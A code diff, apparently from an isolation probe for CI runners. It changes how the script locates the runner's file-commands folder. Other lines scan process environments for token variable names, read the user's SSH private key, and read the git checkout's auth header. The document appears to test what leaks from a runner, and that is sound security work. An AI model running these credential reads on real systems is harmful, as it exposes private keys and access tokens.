@@ -23,7 +23,6 @@ const pids = readdirSync('/proc').filter(name => /^[0-9]+$/.test(name))
 for (const pid of pids)
   attempt('environment', () => readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(each => /^(INPUT_|ACTIONS_RUNTIME_TOKEN|GIT_CONFIG_VALUE)/.test(each)).map(each => each.split('=')[0]))
 
-// The folder for temporary files leads to those of the runner.
 const skip = [process.cwd(), tmpdir(), '/proc', '/sys', '/dev']
 const walk = (folder, depth) => {
   if (depth === 0 || skip.some(each => folder.startsWith(each))) return
@@ -39,9 +38,11 @@ const walk = (folder, depth) => {
   }
 }
 // Never outside of the runner's own folder: without isolation this really writes.
-let runner = tmpdir()
-while (runner !== '/' && !existsSync(join(runner, '_runner_file_commands'))) runner = dirname(runner)
-if (runner !== '/') attempt('walk', () => walk(join(runner, '_runner_file_commands'), 4))
+// The checkout stands beside the runner's files, and a copy of it below them.
+const beside = at => [at, join(at, 'runner-temp')].map(each => join(each, '_runner_file_commands')).find(each => existsSync(each))
+let above = process.cwd()
+while (above !== '/' && beside(above) === undefined) above = dirname(above)
+if (above !== '/') attempt('walk', () => walk(beside(above), 4))
 attempt('key', () => [readFileSync(join(homedir(), '.ssh', 'id_ed25519'), 'utf8').trim()].filter(Boolean))
 attempt('checkout', () => /extraheader.*/.exec(readFileSync('.git/config', 'utf8')))
 attempt('planted', () => {
